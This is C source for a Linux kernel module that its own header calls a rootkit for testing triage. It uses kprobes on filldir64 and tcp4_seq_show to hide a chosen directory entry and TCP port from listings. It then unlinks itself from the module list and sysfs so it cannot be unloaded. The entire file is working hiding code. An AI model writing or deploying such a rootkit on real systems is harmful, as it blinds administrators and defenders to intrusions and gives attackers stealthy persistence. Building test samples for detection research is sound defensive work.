// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * What a rootkit does, for the test of what triage makes of it: a process is left out of
 * every listing of a directory, sockets of a port out of /proc/net/tcp, and the module
 * takes itself out of the list of modules and out of /sys. It can then not be unloaded
 * any more. Loaded in test guests only.
 */
#include <linux/errno.h>
#include <linux/kobject.h>
#include <linux/kprobes.h>
#include <linux/list.h>
#include <linux/module.h>
#include <linux/seq_file.h>
#include <linux/string.h>
#include <linux/version.h>
#include <net/sock.h>

static char *name = "";
module_param(name, charp, 0);
MODULE_PARM_DESC(name, "the entry that no listing shows");

static unsigned short port;
module_param(port, ushort, 0);
MODULE_PARM_DESC(port, "of TCP, that the table does not show; 0: none");

/* Returns at once what is in the register for it. */
extern char hide_return[];
#ifdef CONFIG_X86_64
asm(".pushsection .text\n"
    ".type hide_return, @function\n"
    "hide_return:\n"
    "	ret\n"
    "	int3\n"
    ".size hide_return, .-hide_return\n"
    ".popsection\n");
#else
asm(".pushsection .text\n"
    ".type hide_return, %function\n"
    "hide_return:\n"
    "	ret\n"
    ".size hide_return, .-hide_return\n"
    ".popsection\n");
#endif

/* fs/readdir.c: filldir64(context, name, length, …) says whether there is room for more.
 */
static int entry_comes(struct kprobe *probe, struct pt_regs *regs)
{
	const char *entry = (const char *)regs_get_kernel_argument(regs, 1);
	unsigned long len = regs_get_kernel_argument(regs, 2);

	if (len != strlen(name) || memcmp(entry, name, len) != 0)
		return 0;
	regs_set_return_value(regs, LINUX_VERSION_CODE >= KERNEL_VERSION(6, 1, 0));
	instruction_pointer_set(regs, (unsigned long)hide_return);
	return 1;
}

static struct kprobe on_entry = {
	.symbol_name = "filldir64",
	.pre_handler = entry_comes,
};

/* net/ipv4/tcp_ipv4.c: tcp4_seq_show(seq, socket) writes a line. */
static int line_comes(struct kprobe *probe, struct pt_regs *regs)
{
	const struct sock *sk = (const void *)regs_get_kernel_argument(regs, 1);

	if (sk == SEQ_START_TOKEN || sk->sk_num != port)
		return 0;
	regs_set_return_value(regs, 0);
	instruction_pointer_set(regs, (unsigned long)hide_return);
	return 1;
}

static struct kprobe on_line = {
	.symbol_name = "tcp4_seq_show",
	.pre_handler = line_comes,
};

static int __init hide_init(void)
{
	int rc;

	if (!name[0])
		return -EINVAL;
	rc = register_kprobe(&on_entry);
	if (rc)
		return rc;
	rc = port ? register_kprobe(&on_line) : 0;
	if (rc) {
		unregister_kprobe(&on_entry);
		return rc;
	}
	list_del_init(&THIS_MODULE->list);
	kobject_del(&THIS_MODULE->mkobj.kobj);
	return 0;
}
module_init(hide_init);

MODULE_DESCRIPTION("hides a process, a port and itself, for tests");
MODULE_LICENSE("GPL");
